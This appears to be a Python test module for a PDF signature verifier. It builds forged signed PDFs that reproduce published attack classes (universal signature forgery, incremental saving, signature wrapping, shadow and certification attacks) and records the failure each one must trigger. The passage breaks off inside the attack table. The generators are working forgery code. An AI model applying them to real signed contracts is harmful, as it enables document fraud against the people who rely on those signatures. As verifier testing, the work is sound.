"""Generators for the published PDF signature attacks, run against documents signed by the
test PKI.

    >>> kit = Kit.from_pki(pki)                                   # doctest: +SKIP
    >>> forged = ATTACKS["usf_contents_null"].build(kit)          # doctest: +SKIP

Every attack names its family (the paper's class), the sub-indication esealkit must
report for it and how it is made.  The families:

- USF, universal signature forgery ("1 Trillion Dollar Refund", CCS 2019): the signature
  dictionary lies about what is signed (/Contents or /ByteRange missing, null, empty,
  pointing elsewhere, an empty CMS).
- ISA, incremental saving attack (same paper): a later revision changes the content, with
  or without a new xref/trailer, with or without a new signature.
- SWA, signature wrapping (same paper): the signed bytes are moved after new content and
  /ByteRange is changed to find them there.
- Shadow attacks (NDSS 2021): hide, replace and hide-and-replace, using content that was
  in the file before it was signed and is revealed by a later revision.
- Certification attacks ("Breaking the Specification", IEEE S&P 2021): evil annotations
  and sneaky signatures on certified documents, beyond the DocMDP level.

The PDFs are written by hand where no library would write them: an attacker does not use
a well-behaved writer.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pikepdf
from asn1crypto import cms as asn1_cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers

from esealkit.pdf.sign import EsealkitSigner, sign_pdf
from esealkit.report import SubIndication
from esealkit.testing import add_annotation, add_page_text

__all__ = ["ATTACKS", "HONEST", "Attack", "Honest", "Kit"]

FORMAT = SubIndication.FORMAT_FAILURE
HASH = SubIndication.HASH_FAILURE
MODIFIED = SubIndication.MODIFIED_AFTER_SIGNING

TITLE = b"Contract 42"
AMOUNT = "Amount: 1000 CNY"


# --- documents ------------------------------------------------------------------------


def _obj(number: int, body: bytes) -> bytes:
    return b"%d 0 obj\n" % number + body + b"\nendobj\n"


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _text(y: int, text: bytes, size: int = 14) -> bytes:
    return b"BT /F1 %d Tf 72 %d Td (%s) Tj ET\n" % (size, y, text)


@dataclass(frozen=True)
class BaseDocument:
    """A hand-written one-page PDF and where its interesting objects live.

    ``shadow`` objects are in the file but not in its xref table: dead bodies a viewer
    never shows until a later xref section points at them (the shadow attacks' trick).
    """

    data: bytes
    content: int  # object number of the page's visible content stream
    overlay: int  # object number of the overlay stream drawn on top
    font: int
    page: int
    shadow_offsets: dict[str, int] = field(default_factory=dict)


def base_document(*, shadows: bool = False, text_field: str | None = None) -> BaseDocument:
    """The contract everyone signs: a page with the title and amount, drawn by two content
    streams (the second an "overlay" the hide attack removes).

    With ``shadows`` the file also holds, outside its xref table, a second body of the
    content stream (object 4, saying "Amount: 9000 CNY") and a second catalog/page tree
    (objects 20-22) showing other text.  With ``text_field`` the page has a text form
    field of that name, filled with the amount (a /V and an appearance).
    """
    visible = _text(760, TITLE, 18) + _text(720, b"Amount: 1000 CNY")
    hidden_text = _text(720, b"Amount: 9000 CNY")
    # The overlay paints a white box over a line that says something else: the "hide"
    # attack removes it after signing.
    overlay = b"1 1 1 rg 60 680 400 30 re f\n"
    under = _text(690, b"Payable to: Mallory")
    field_refs = ([b"8 0 R"] if text_field else []) + ([b"10 0 R"] if shadows else [])
    form = b" /AcroForm 11 0 R" if field_refs else b""
    objects: dict[int, bytes] = {
        1: b"<< /Type /Catalog /Pages 2 0 R%s >>" % form,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 6 0 R >> >> "
           b"/Contents [7 0 R 4 0 R 5 0 R] /Annots 12 0 R >>",
        4: _stream(visible),
        5: _stream(overlay),
        6: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        7: _stream(under),
        12: b"[" + b" ".join(field_refs) + b"]",
    }
    if field_refs:
        objects[11] = b"<< /Fields [" + b" ".join(field_refs) + b"] /DA (/F1 12 Tf 0 g) >>"
    if text_field:
        objects[8] = (b"<< /FT /Tx /T (%s) /V (1000) /DA (/F1 12 Tf 0 g) /Type /Annot /Subtype /Widget "
                      b"/Rect [300 600 500 630] /P 3 0 R /F 4 /AP << /N 9 0 R >> >>" % text_field.encode())
        objects[9] = _appearance(b"1000")
    if shadows:
        # An empty signature field the signer fills: the shadow catalog shares the form.
        objects[10] = b"<< /FT /Sig /T (Signature1) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /P 3 0 R /F 132 >>"
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    shadow_offsets: dict[str, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += _obj(number, objects[number])
        if shadows and number == 7:
            # Dead bodies: never listed in the xref table below.
            shadow_offsets["content"] = len(out)
            out += _obj(4, _stream(_text(760, TITLE, 18) + hidden_text))
            shadow_offsets["catalog"] = len(out)
            out += _obj(20, b"<< /Type /Catalog /Pages 21 0 R /AcroForm 11 0 R >>")
            shadow_offsets["pages"] = len(out)
            out += _obj(21, b"<< /Type /Pages /Kids [22 0 R] /Count 1 >>")
            shadow_offsets["page"] = len(out)
            out += _obj(22, b"<< /Type /Page /Parent 21 0 R /MediaBox [0 0 595 842] "
                            b"/Resources << /Font << /F1 6 0 R >> >> /Contents 23 0 R >>")
            shadow_offsets["page_content"] = len(out)
            out += _obj(23, _stream(_text(760, b"Receipt: paid in full", 18)))
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += (b"%010d 00000 n \n" % offsets[number]) if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>] >>\n" % size
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return BaseDocument(bytes(out), content=4, overlay=5, font=6, page=3, shadow_offsets=shadow_offsets)


def _appearance(value: bytes) -> bytes:
    return _stream(b"/Tx BMC BT /F1 12 Tf 2 8 Td (" + value + b") Tj ET EMC",
                   b" /Type /XObject /Subtype /Form /BBox [0 0 200 30] /Resources << /Font << /F1 6 0 R >> >>")


# --- raw incremental updates ----------------------------------------------------------


_TRAILER_RE = re.compile(rb"trailer\s*<<(?P<body>.*?)>>\s*startxref\s*(?P<xref>\d+)\s*%%EOF", re.S)


def _last_trailer(pdf: bytes) -> tuple[dict[str, bytes], int]:
    """The last trailer's /Size, /Root, /Info and /ID (raw), and the last startxref."""
    m = list(_TRAILER_RE.finditer(pdf))[-1]
    body = m.group("body")
    values: dict[str, bytes] = {}
    for key in (b"Size", b"Root", b"Info"):
        found = re.search(rb"/" + key + rb"\s+(\d+(?:\s+\d+\s+R)?)", body)
        if found:
            values[key.decode()] = found.group(1)
    ident = re.search(rb"/ID\s*\[[^\]]*\]", body)
    if ident:
        values["ID"] = ident.group(0)[3:].strip()
    return values, int(m.group("xref"))


def append_revision(
    pdf: bytes,
    objects: dict[int, bytes],
    *,
    pointers: dict[int, int] | None = None,
    root: bytes | None = None,
    xref: bool = True,
    trailer: bool = True,
) -> bytes:
    """Append an incremental update by hand: new bodies for ``objects``, xref entries that
    point ``pointers`` (object number → offset) at bytes already in the file, and a
    trailer (with ``root`` as /Root when given).  ``xref``/``trailer`` False leave them
    out, as the incremental saving attack's variants do."""
    values, prev = _last_trailer(pdf)
    out = bytearray(pdf)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = dict(pointers or {})
    for number in sorted(objects):
        offsets[number] = len(out)
        out += _obj(number, objects[number])
    size = max([int(values["Size"]), *(n + 1 for n in offsets)])
    start = len(out)
    if xref:
        out += b"xref\n"
        for number in sorted(offsets):
            out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    if trailer:
        out += b"trailer\n<< /Size %d /Root %s /Prev %d" % (size, root or values["Root"], prev)
        if "Info" in values:
            out += b" /Info " + values["Info"]
        if "ID" in values:
            out += b" /ID " + values["ID"]
        out += b" >>\n"
    if xref or trailer:
        out += b"startxref\n%d\n%%%%EOF\n" % (start if xref else prev)
    return bytes(out)


# --- the signature dictionary, edited in place -----------------------------------------


@dataclass(frozen=True)
class SigBytes:
    """Where the first signature's /Contents and /ByteRange sit in the raw file."""

    contents_key: int  # offset of "/Contents"
    hex_start: int  # offset of "<"
    hex_end: int  # offset just after ">"
    byte_range: tuple[int, int, int, int]
    byte_range_span: tuple[int, int]  # the whole "/ByteRange [...]" text


def sig_bytes(pdf: bytes, index: int = 0) -> SigBytes:
    matches = list(re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf))
    m = matches[index]
    a, b, c, d = (int(m.group(i)) for i in range(1, 5))
    key = pdf.rindex(b"/Contents", 0, b)
    return SigBytes(key, b, c, (a, b, c, d), (m.start(), m.end()))


def _replace_same_length(pdf: bytes, start: int, end: int, new: bytes) -> bytes:
    """Overwrite pdf[start:end] with ``new`` padded with spaces: offsets stay valid."""
    assert len(new) <= end - start, "replacement longer than the original"
    return pdf[:start] + new + b" " * (end - start - len(new)) + pdf[end:]


def _set_contents(pdf: bytes, new: bytes) -> bytes:
    s = sig_bytes(pdf)
    return _replace_same_length(pdf, s.contents_key, s.hex_end, new)


def _set_byte_range(pdf: bytes, new: bytes) -> bytes:
    s = sig_bytes(pdf)
    return _replace_same_length(pdf, *s.byte_range_span, new)


def _hex_contents(pdf: bytes, der: bytes) -> bytes:
    """``der`` as this signature's /Contents, zero-padded to its reserved size."""
    s = sig_bytes(pdf)
    room = (s.hex_end - s.hex_start - 2) // 2
    assert len(der) <= room
    return b"/Contents <" + (der + bytes(room - len(der))).hex().upper().encode() + b">"


def _empty_signed_data() -> bytes:
    """A well-formed CMS SignedData with no signer, no certificate: signs nothing."""
    sd = asn1_cms.SignedData({
        "version": "v1",
        "digest_algorithms": [],
        "encap_content_info": {"content_type": "data"},
        "signer_infos": [],
    })
    return asn1_cms.ContentInfo({"content_type": "signed_data", "content": sd}).dump()


# --- signing helpers ------------------------------------------------------------------


class _UnrulySigner(signers.PdfSigner):  # type: ignore[misc]
    """pyHanko's signer without its refusal to sign a P=1 certified document: the
    attacker is not bound by the writer's manners."""

    def _enforce_certification_constraints(self, reader: Any) -> None:
        return None


@dataclass(frozen=True)
class Kit:
    """The test PKI's signers, as the attacks need them."""

    key: Any
    cert: bytes
    chain: tuple[bytes, ...]
    other_key: Any  # a second trusted signer (a colluding or later signer)
    other_cert: bytes
    stranger_key: Any  # a signer the verifier does not trust
    stranger_cert: bytes
    stranger_chain: tuple[bytes, ...]
    tsa: Any  # a pyHanko time stamper answering with the test TSA

    @classmethod
    def from_pki(cls, pki: Any) -> Kit:
        from esealkit.testing import timestamper

        first, second = pki.signers["ecdsa-p256"], pki.signers["rsa"]
        return cls(first.key, first.der, tuple(pki.chain), second.key, second.der,
                   pki.stranger.key, pki.stranger.der, (pki.stranger_root.der,), timestamper(pki.tsa))

    def sign(self, pdf: bytes, *, certify: int | None = None, field_name: str = "Signature1",
             box: tuple[int, int, int, int] | None = None) -> bytes:
        return sign_pdf(pdf, key=self.key, cert_der=self.cert, chain=self.chain, certify=certify,
                        field_name=field_name, box=box)

    def sign_other(self, pdf: bytes, *, field_name: str = "Signature2",
                   box: tuple[int, int, int, int] | None = None) -> bytes:
        return sign_pdf(pdf, key=self.other_key, cert_der=self.other_cert, chain=self.chain,
                        field_name=field_name, box=box)

    def sign_stranger(self, pdf: bytes, *, field_name: str = "Signature2") -> bytes:
        return sign_pdf(pdf, key=self.stranger_key, cert_der=self.stranger_cert, chain=self.stranger_chain,
                        field_name=field_name)

    def sign_regardless(self, pdf: bytes, *, field_name: str, box: tuple[int, int, int, int] | None = None,
                        appearance_text: str | None = None) -> bytes:
        """A later approval signature by the second trusted signer, also where the
        certification level forbids it; with ``box`` its widget is visible on page 1 and
        shows ``appearance_text``."""
        from pyhanko.stamp import TextStampStyle

        signer = EsealkitSigner(self.other_key, self.other_cert, self.chain)
        meta = signers.PdfSignatureMetadata(field_name=field_name, md_algorithm=signer.digest_algorithm,
                                            subfilter=fields.SigSeedSubFilter.PADES)
        spec = fields.SigFieldSpec(field_name, box=box, on_page=0) if box is not None else None
        style = TextStampStyle(stamp_text=appearance_text, border_width=0) if appearance_text else None
        pdf_signer = _UnrulySigner(meta, signer=signer, new_field_spec=spec, stamp_style=style)
        out = io.BytesIO()
        pdf_signer.sign_pdf(IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False), output=out)
        return out.getvalue()


# --- pyHanko-written updates (what a tool would write) ---------------------------------


def _update(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _field(writer: IncrementalPdfFileWriter, name: str) -> Any:
    form = writer.root["/AcroForm"]
    for ref in form["/Fields"]:
        obj = ref.get_object()
        if str(obj.get("/T")) == name:
            return ref, obj
    raise KeyError(name)


def fill_text_field(pdf: bytes, name: str, value: str, *, appearance: bool = True, set_value: bool = True) -> bytes:
    """Set a text field's /V and/or its appearance stream, as a form filler does."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        _ref, obj = _field(writer, name)
        if set_value:
            obj["/V"] = generic.TextStringObject(value)
        if appearance:
            text = value.encode("latin-1").replace(b"(", b"\\(").replace(b")", b"\\)")
            stream = generic.StreamObject(
                {generic.NameObject("/Type"): generic.NameObject("/XObject"),
                 generic.NameObject("/Subtype"): generic.NameObject("/Form"),
                 generic.NameObject("/BBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 200, 30)])},
                stream_data=b"/Tx BMC BT /Helv 12 Tf 2 8 Td (" + text + b") Tj ET EMC")
            obj["/AP"] = generic.DictionaryObject({generic.NameObject("/N"): writer.add_object(stream)})
        writer.update_container(obj)

    return _update(pdf, change)


def empty_text_field_document() -> bytes:
    """The contract with an empty text field "approval" (filled after certification)."""
    doc = pikepdf.open(io.BytesIO(base_document().data))
    page = doc.pages[0]
    field_obj = doc.make_indirect(pikepdf.Dictionary(
        FT=pikepdf.Name.Tx, T="approval", DA="/Helv 12 Tf 0 g", Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Widget, Rect=[300, 600, 500, 630], P=page.obj, F=4))
    page.obj.Annots = doc.make_indirect(pikepdf.Array([field_obj]))
    helv = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    doc.Root.AcroForm = pikepdf.Dictionary(Fields=[field_obj], DA="/Helv 12 Tf 0 g",
                                           DR=pikepdf.Dictionary(Font=pikepdf.Dictionary(Helv=helv)))
    out = io.BytesIO()
    doc.save(out, deterministic_id=True)
    return out.getvalue()


def add_dss(pdf: bytes, kit: Kit, crls: tuple[bytes, ...] = ()) -> bytes:
    """An LTV update: the signer's chain and CRLs in a /DSS, by pyHanko's own writer."""
    from asn1crypto import crl as asn1_crl
    from asn1crypto import x509
    from pyhanko.sign.validation.dss import DocumentSecurityStore

    from esealkit.pdf.reader import read_pdf

    contents = read_pdf(pdf).signatures[0].contents
    out = io.BytesIO(pdf)
    DocumentSecurityStore.add_dss(
        out, contents,
        certs=[x509.Certificate.load(c) for c in (kit.cert, *kit.chain)],
        crls=[asn1_crl.CertificateList.load(c) for c in crls],
    )
    return out.getvalue()


# --- the attacks ----------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    name: str
    family: str
    expected: SubIndication  # what the attacked signature (and the document) must say
    build: Callable[[Kit], bytes]
    description: str
    target: str = "Signature1"  # the signature whose report must name the attack


@dataclass(frozen=True)
class Honest:
    """A change the signers allowed: every signature must still pass."""

    name: str
    build: Callable[[Kit], bytes]
    description: str


def _signed(kit: Kit) -> bytes:
    return kit.sign(base_document().data)


# USF


def _usf_contents_missing(kit: Kit) -> bytes:
    return _set_contents(_signed(kit), b"")


def _usf_contents_null(kit: Kit) -> bytes:
    return _set_contents(_signed(kit), b"/Contents null")


def _usf_contents_empty_string(kit: Kit) -> bytes:
    return _set_contents(_signed(kit), b"/Contents <>")


def _usf_contents_zeros(kit: Kit) -> bytes:
    return _set_contents(_signed(kit), _hex_contents(_signed(kit), b""))


def _usf_contents_empty_cms(kit: Kit) -> bytes:
    signed = _signed(kit)
    return _set_contents(signed, _hex_contents(signed, _empty_signed_data()))


def _usf_contents_other_signature(kit: Kit) -> bytes:
    """A signature copied from another signed document (valid CMS, other bytes)."""
    signed = _signed(kit)
    donor = kit.sign(base_document(text_field="x").data)
    from esealkit.pdf.reader import read_pdf

    der = read_pdf(donor).signatures[0].contents.rstrip(b"\x00")
    return _set_contents(signed, _hex_contents(signed, der))


def _usf_byte_range_missing(kit: Kit) -> bytes:
    return _set_byte_range(_signed(kit), b"")


def _usf_byte_range_null(kit: Kit) -> bytes:
    return _set_byte_range(_signed(kit), b"/ByteRange null")


def _usf_byte_range_empty(kit: Kit) -> bytes:
    return _set_byte_range(_signed(kit), b"/ByteRange []")


def _usf_byte_range_zero(kit: Kit) -> bytes:
    return _set_byte_range(_signed(kit), b"/ByteRange [0 0 0 0]")


def _usf_byte_range_three(kit: Kit) -> bytes:
    signed = _signed(kit)
    _a, b, _c, _d = sig_bytes(signed).byte_range
    return _set_byte_range(signed, b"/ByteRange [0 %d 9 9 9 9]" % b)


def _usf_byte_range_negative(kit: Kit) -> bytes:
    signed = _signed(kit)
    _a, b, c, _d = sig_bytes(signed).byte_range
    return _set_byte_range(signed, b"/ByteRange [0 %d %d -1]" % (b, c))


def _usf_byte_range_past_end(kit: Kit) -> bytes:
    signed = _signed(kit)
    _a, b, c, d = sig_bytes(signed).byte_range
    return _set_byte_range(signed, b"/ByteRange [0 %d %d %d]" % (b, c, d + 1000))


def _usf_byte_range_not_from_start(kit: Kit) -> bytes:
    signed = _signed(kit)
    _a, b, c, d = sig_bytes(signed).byte_range
    return _set_byte_range(signed, b"/ByteRange [9 %d %d %d]" % (b - 9, c, d))


def _usf_byte_range_elsewhere(kit: Kit) -> bytes:
    """The gap points at a decoy /Contents with the same hex string, appended after the
    document: the real /Contents and the appended content are then "signed"."""
    signed = _signed(kit)
    s = sig_bytes(signed)
    decoy_hex = signed[s.hex_start:s.hex_end]
    forged = append_revision(signed, {90: b"<< /Type /Decoy /Contents " + decoy_hex + b" >>"})
    b = forged.index(b"/Contents " + decoy_hex, len(signed)) + len(b"/Contents ")
    c = b + len(decoy_hex)
    return _set_byte_range(forged, b"/ByteRange [0 %d %d %d]" % (b, c, len(forged) - c))


def _usf_byte_range_covers_contents(kit: Kit) -> bytes:
    """One range over the whole file, /Contents included (no gap)."""
    signed = _signed(kit)
    return _set_byte_range(signed, b"/ByteRange [0 %d %d 0]" % (len(signed), len(signed)))


def _usf_no_signature_dictionary(kit: Kit) -> bytes:
    """The field's /V is replaced by a later revision with a dictionary lacking both."""
    signed = _signed(kit)
    number = _signature_object(signed)
    return append_revision(signed, {number: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached >>"})


def _signature_object(pdf: bytes) -> int:
    with pikepdf.open(io.BytesIO(pdf)) as doc:
        for f in doc.Root.AcroForm.Fields:
            if f.get("/FT") == pikepdf.Name.Sig:
                return int(f.V.objgen[0])
    raise LookupError("no signature field")


# ISA


def _isa_new_stream(kit: Kit) -> bytes:
    return add_page_text(_signed(kit), "PAID IN FULL")


def _isa_redefine_content(kit: Kit) -> bytes:
    base = base_document()
    return append_revision(kit.sign(base.data), {
        base.content: _stream(_text(760, TITLE, 18) + _text(720, b"Amount: 9000 CNY")),
    })


def _isa_redefine_font(kit: Kit) -> bytes:
    """Object replacement: the font everything is drawn with, swapped after signing."""
    base = base_document()
    return append_revision(kit.sign(base.data), {base.font: b"<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>"})


def _isa_no_xref(kit: Kit) -> bytes:
    """New bodies and a trailer, but no xref section (a repairing reader finds them)."""
    base = base_document()
    return append_revision(kit.sign(base.data), {
        base.content: _stream(_text(760, TITLE, 18) + _text(720, b"Amount: 9000 CNY")),
    }, xref=False)


def _isa_no_xref_no_trailer(kit: Kit) -> bytes:
    """New bodies only: no xref, no trailer, no %%EOF."""
    base = base_document()
    return append_revision(kit.sign(base.data), {
        base.content: _stream(_text(760, TITLE, 18) + _text(720, b"Amount: 9000 CNY")),
    }, xref=False, trailer=False)


def _isa_with_stranger_signature(kit: Kit) -> bytes:
    return kit.sign_stranger(add_page_text(_signed(kit), "PAID IN FULL"))


def _isa_with_trusted_signature(kit: Kit) -> bytes:
    """The change is then signed by a second, trusted signer: the first signature must
    still say its document was changed."""
    return kit.sign_other(add_page_text(_signed(kit), "PAID IN FULL"))


def _isa_new_page(kit: Kit) -> bytes:
    base = base_document()
    return append_revision(kit.sign(base.data), {
        base.page - 1: b"<< /Type /Pages /Kids [3 0 R 30 0 R] /Count 2 >>",
        30: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 6 0 R >> >> /Contents 31 0 R >>",
        31: _stream(_text(760, b"Annex: all debts forgiven")),
    })


# SWA


def _swa_relocated(kit: Kit) -> bytes:
    """The signed tail (after /Contents) is copied after new content; /ByteRange points
    at the copy, so the signed bytes are intact but no longer what a reader shows."""
    base = base_document()
    signed = kit.sign(base.data)
    s = sig_bytes(signed)
    _a, b, c, d = s.byte_range
    tail = signed[c:c + d]
    evil = _obj(base.content, _stream(_text(760, TITLE, 18) + _text(720, b"Amount: 9000 CNY")))
    # New file: head, /Contents, the rest of the signature dictionary with the new
    # /ByteRange, the attacker's objects, then the copy of the signed tail, then a new xref.
    sig_end = signed.index(b"endobj", c) + len(b"endobj\n")
    head = signed[:c]
    middle = signed[c:sig_end] + evil
    copy_at = len(head) + len(middle)
    new_range = b"/ByteRange [0 %d %d %d]" % (b, copy_at, d)
    old_range = signed[s.byte_range_span[0]:s.byte_range_span[1]]
    middle = middle.replace(old_range, new_range + b" " * (len(old_range) - len(new_range)), 1)
    body = head + middle + tail
    values, prev = _last_trailer(signed)
    xref_at = len(body)
    content_at = len(head) + middle.index(b"%d 0 obj" % base.content)
    out = body + b"xref\n%d 1\n%010d 00000 n \n" % (base.content, content_at)
    out += b"trailer\n<< /Size %s /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        values["Size"], values["Root"], prev + (copy_at - c), xref_at)
    return out


def _swa_gap_grown(kit: Kit) -> bytes:
    """The second range starts later: the gap swallows the rest of the signature
    dictionary and a new object hidden in it (an "unsigned" hole in the file)."""
    signed = _signed(kit)
    s = sig_bytes(signed)
    _a, b, c, d = s.byte_range
    return _set_byte_range(signed, b"/ByteRange [0 %d %d %d]" % (b, c + 40, d - 40))


def _swa_second_range_short(kit: Kit) -> bytes:
    """The second range stops before the xref, which the attacker then changes."""
    signed = _signed(kit)
    _a, b, c, d = sig_bytes(signed).byte_range
    end = signed.rindex(b"xref", 0, c + d)
    return _set_byte_range(signed, b"/ByteRange [0 %d %d %d]" % (b, c, end - c))


# Shadow


def _shadow_hide_overlay(kit: Kit) -> bytes:
    """Hide: the white box prepared before signing is emptied after signing, uncovering
    the line it hid."""
    base = base_document()
    return append_revision(kit.sign(base.data), {base.overlay: _stream(b"")})


def _shadow_hide_page_contents(kit: Kit) -> bytes:
    """Hide, variant: the page's /Contents array loses the overlay (page object rewritten)."""
    base = base_document()
    return append_revision(kit.sign(base.data), {
        base.page: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 6 0 R >> >> "
                   b"/Contents [7 0 R 4 0 R] >>"})


def _shadow_replace_xref_only(kit: Kit) -> bytes:
    """Replace: the update adds no object, only an xref entry pointing object 4 at its
    shadow body that was in the signed bytes all along."""
    base = base_document(shadows=True)
    return append_revision(kit.sign(base.data), {}, pointers={base.content: base.shadow_offsets["content"]})


def _shadow_hide_and_replace(kit: Kit) -> bytes:
    """Hide-and-replace: only a new trailer and xref, whose /Root is the shadow catalog
    (a whole other document, already inside the signed bytes)."""
    base = base_document(shadows=True)
    o = base.shadow_offsets
    return append_revision(kit.sign(base.data), {}, pointers={
        20: o["catalog"], 21: o["pages"], 22: o["page"], 23: o["page_content"]}, root=b"20 0 R")


def _shadow_replace_form_value(kit: Kit) -> bytes:
    """Replace via a form field: the value the signer saw (1000) becomes 9000."""
    return fill_text_field(kit.sign(base_document(text_field="amount").data), "amount", "9000")


def _shadow_replace_form_appearance(kit: Kit) -> bytes:
    """Replace via a form field's appearance only: /V stays, the page shows 9000."""
    return fill_text_field(kit.sign(base_document(text_field="amount").data), "amount", "9000", set_value=False)


# Certification


def _eaa(level: int) -> Callable[[Kit], bytes]:
    def build(kit: Kit) -> bytes:
        return add_annotation(kit.sign(base_document().data, certify=level), "PAID IN FULL")
    return build


def _ssa(level: int) -> Callable[[Kit], bytes]:
    def build(kit: Kit) -> bytes:
        certified = kit.sign(base_document().data, certify=level)
        return kit.sign_regardless(certified, field_name="Sneaky", box=(60, 700, 500, 740),
                                   appearance_text="Amount: 9000 CNY")
    return build


def add_unsigned_overlay_field(pdf: bytes, name: str = "Sneaky") -> bytes:
    """A new, unsigned, visible signature field whose appearance paints a white box and
    new text over the page."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        fields.append_signature_field(writer, fields.SigFieldSpec(name, box=(60, 700, 500, 740), on_page=0))
        _, obj = _field(writer, name)
        stream = generic.StreamObject(
            {generic.NameObject("/Type"): generic.NameObject("/XObject"),
             generic.NameObject("/Subtype"): generic.NameObject("/Form"),
             generic.NameObject("/BBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 440, 40)])},
            stream_data=b"1 1 1 rg 0 0 440 40 re f BT /Helv 20 Tf 0 g 5 10 Td (Amount: 9000 CNY) Tj ET")
        obj["/AP"] = generic.DictionaryObject({generic.NameObject("/N"): writer.add_object(stream)})
        writer.update_container(obj)

    return _update(pdf, change)


def _ssa_unsigned(level: int | None) -> Callable[[Kit], bytes]:
    def build(kit: Kit) -> bytes:
        return add_unsigned_overlay_field(kit.sign(base_document().data, certify=level))
    return build


def _certified_p1_form_filled(kit: Kit) -> bytes:
    return fill_text_field(kit.sign(empty_text_field_document(), certify=1), "approval", "approved")


ATTACKS: dict[str, Attack] = {a.name: a for a in [
    Attack("usf_contents_missing", "USF", FORMAT, _usf_contents_missing, "/Contents removed"),
    Attack("usf_contents_null", "USF", FORMAT, _usf_contents_null, "/Contents null"),
    Attack("usf_contents_empty_string", "USF", FORMAT, _usf_contents_empty_string, "/Contents <>"),
    Attack("usf_contents_zeros", "USF", FORMAT, _usf_contents_zeros, "/Contents all zero (zero-length CMS)"),
    Attack("usf_contents_empty_cms", "USF", FORMAT, _usf_contents_empty_cms, "/Contents an empty SignedData"),
    Attack("usf_contents_other_signature", "USF", HASH, _usf_contents_other_signature,
           "/Contents copied from another document's valid signature"),
    Attack("usf_byte_range_missing", "USF", FORMAT, _usf_byte_range_missing, "/ByteRange removed"),
    Attack("usf_byte_range_null", "USF", FORMAT, _usf_byte_range_null, "/ByteRange null"),
    Attack("usf_byte_range_empty", "USF", FORMAT, _usf_byte_range_empty, "/ByteRange []"),
    Attack("usf_byte_range_zero", "USF", FORMAT, _usf_byte_range_zero, "/ByteRange [0 0 0 0]"),
    Attack("usf_byte_range_three_ranges", "USF", FORMAT, _usf_byte_range_three, "three ranges"),
    Attack("usf_byte_range_negative", "USF", FORMAT, _usf_byte_range_negative, "a negative length"),
    Attack("usf_byte_range_past_end", "USF", FORMAT, _usf_byte_range_past_end, "past the end of the file"),
    Attack("usf_byte_range_not_from_start", "USF", FORMAT, _usf_byte_range_not_from_start, "does not start at 0"),
    Attack("usf_byte_range_elsewhere", "USF", HASH, _usf_byte_range_elsewhere,
           "the gap is a decoy /Contents in an appended object"),
    Attack("usf_byte_range_no_gap", "USF", FORMAT, _usf_byte_range_covers_contents, "no gap for /Contents"),
    Attack("usf_signature_dictionary_emptied", "USF", FORMAT, _usf_no_signature_dictionary,
           "a later revision redefines the signature dictionary without /Contents and /ByteRange"),
    Attack("isa_new_content_stream", "ISA", MODIFIED, _isa_new_stream, "text drawn by a new stream, new xref"),
    Attack("isa_redefine_content", "ISA", MODIFIED, _isa_redefine_content, "the content stream redefined"),
    Attack("isa_redefine_font", "ISA", MODIFIED, _isa_redefine_font, "the font object replaced"),
    Attack("isa_new_page", "ISA", MODIFIED, _isa_new_page, "a page added"),
    Attack("isa_no_xref", "ISA", MODIFIED, _isa_no_xref, "redefinition with a trailer but no xref"),
    Attack("isa_no_xref_no_trailer", "ISA", MODIFIED, _isa_no_xref_no_trailer,
           "redefinition without xref or trailer"),
    Attack("isa_with_stranger_signature", "ISA", MODIFIED, _isa_with_stranger_signature,
           "change, then a new signature by an untrusted signer"),
    Attack("isa_with_trusted_signature", "ISA", MODIFIED, _isa_with_trusted_signature,
           "change, then a new signature by a trusted signer"),
    Attack("swa_relocated_signed_tail", "SWA", FORMAT, _swa_relocated,
           "signed tail moved after new objects, /ByteRange pointing at it"),
    Attack("swa_gap_grown", "SWA", FORMAT, _swa_gap_grown, "the gap covers more than /Contents"),
    Attack("swa_second_range_short", "SWA", HASH, _swa_second_range_short,
           "the second range stops before the xref (the /ByteRange text is signed, so its change shows)"),
    Attack("shadow_hide_overlay", "shadow-hide", MODIFIED, _shadow_hide_overlay, "overlay emptied"),
    Attack("shadow_hide_page_contents", "shadow-hide", MODIFIED, _shadow_hide_page_contents,
           "overlay dropped from the page"),
